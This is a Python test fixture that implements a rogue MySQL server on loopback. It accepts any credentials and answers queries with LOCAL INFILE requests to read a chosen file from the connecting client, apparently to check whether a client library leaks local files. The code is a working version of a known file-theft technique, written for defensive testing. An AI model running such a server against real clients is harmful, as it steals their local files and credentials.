"""A hostile MySQL server on loopback: it asks the client for a local file.

The MySQL protocol lets a server answer *any* query with a LOCAL INFILE request
(``0xFB`` + a file name); a client with LOCAL INFILE enabled then sends that
file's content, whatever query it had sent. This fake speaks just enough of the
protocol for PyMySQL: handshake v10 (mysql_native_password), accepts any
credentials, answers ``SET ...`` (names, autocommit) with OK and every other
query with a LOCAL INFILE request for ``filename``, and records whether the
client sent the content. With ``silent=True`` it never answers those queries
(a server that accepts and then hangs).
"""

from __future__ import annotations

import socket
import struct
import threading
from dataclasses import dataclass, field

CLIENT_LOCAL_FILES = 0x80
_CAPABILITIES = (
    0x1  # LONG_PASSWORD
    | 0x2  # FOUND_ROWS
    | 0x4  # LONG_FLAG
    | 0x8  # CONNECT_WITH_DB
    | CLIENT_LOCAL_FILES
    | 0x200  # PROTOCOL_41
    | 0x2000  # TRANSACTIONS
    | 0x8000  # SECURE_CONNECTION
    | 0x20000  # MULTI_RESULTS
    | 0x80000  # PLUGIN_AUTH
)
_OK = b"\x00\x00\x00\x02\x00\x00\x00"


@dataclass
class Seen:
    connections: int = 0
    client_flags: list[int] = field(default_factory=list)
    infile_requests: int = 0
    infile_content: list[bytes] = field(default_factory=list)


class RogueMySql:
    """Start with ``with RogueMySql(filename) as rogue:``; ``rogue.port``, ``rogue.seen``."""

    def __init__(self, filename: str = "/etc/hostname", silent: bool = False) -> None:
        self.filename = filename
        self.silent = silent
        self.seen = Seen()
        self._sock = socket.create_server(("127.0.0.1", 0))
        self._sock.settimeout(0.2)
        self.port: int = self._sock.getsockname()[1]
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []
        self._accepter = threading.Thread(target=self._accept, daemon=True)

    def __enter__(self) -> RogueMySql:
        self._accepter.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self._stop.set()
        self._accepter.join(timeout=5)
        for thread in self._threads:
            thread.join(timeout=5)
        self._sock.close()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.seen.connections += 1
            thread = threading.Thread(target=self._handle, args=(conn,), daemon=True)
            self._threads.append(thread)
            thread.start()

    def _handle(self, conn: socket.socket) -> None:
        conn.settimeout(0.5)
        try:
            self._serve(conn)
        except (OSError, ConnectionError):
            pass
        finally:
            conn.close()

    # -- packets -------------------------------------------------------------------------

    def _recv_exact(self, conn: socket.socket, size: int) -> bytes:
        data = b""
        while len(data) < size:
            try:
                chunk = conn.recv(size - len(data))
            except TimeoutError:
                if self._stop.is_set():
                    raise ConnectionError("stopping") from None
                continue
            if not chunk:
                raise ConnectionError("client went away")
            data += chunk
        return data

    def _read(self, conn: socket.socket) -> tuple[int, bytes]:
        header = self._recv_exact(conn, 4)
        length = int.from_bytes(header[:3], "little")
        return header[3], self._recv_exact(conn, length)

    @staticmethod
    def _send(conn: socket.socket, seq: int, payload: bytes) -> None:
        conn.sendall(len(payload).to_bytes(3, "little") + bytes([seq & 0xFF]) + payload)

    def _handshake(self) -> bytes:
        salt = b"abcdefgh" + b"ijklmnopqrst"
        return (
            b"\x0a"
            + b"5.7.99-rogue\x00"
            + struct.pack("<I", 7)
            + salt[:8]
            + b"\x00"
            + struct.pack("<H", _CAPABILITIES & 0xFFFF)
            + bytes([45])  # utf8mb4_general_ci
            + struct.pack("<H", 2)  # SERVER_STATUS_AUTOCOMMIT
            + struct.pack("<H", _CAPABILITIES >> 16)
            + bytes([len(salt) + 1])
            + b"\x00" * 10
            + salt[8:]
            + b"\x00"
            + b"mysql_native_password\x00"
        )

    def _serve(self, conn: socket.socket) -> None:
        self._send(conn, 0, self._handshake())
        seq, response = self._read(conn)
        self.seen.client_flags.append(struct.unpack("<I", response[:4])[0])
        self._send(conn, seq + 1, _OK)  # any credentials will do
        while not self._stop.is_set():
            seq, packet = self._read(conn)
            command, argument = packet[:1], packet[1:]
            if command == b"\x01":  # COM_QUIT
                return
            if command == b"\x0e":  # COM_PING
                self._send(conn, seq + 1, _OK)
                continue
            if command == b"\x03" and argument.upper().startswith(b"SET "):
                self._send(conn, seq + 1, _OK)
                continue
            if self.silent:
                while not self._stop.is_set():
                    self._read(conn)  # never answer
                return
            self.seen.infile_requests += 1
            self._send(conn, seq + 1, b"\xfb" + self.filename.encode())
            content = b""
            while True:
                seq, chunk = self._read(conn)
                if not chunk:
                    break
                content += chunk
            self.seen.infile_content.append(content)
            self._send(conn, seq + 1, _OK)
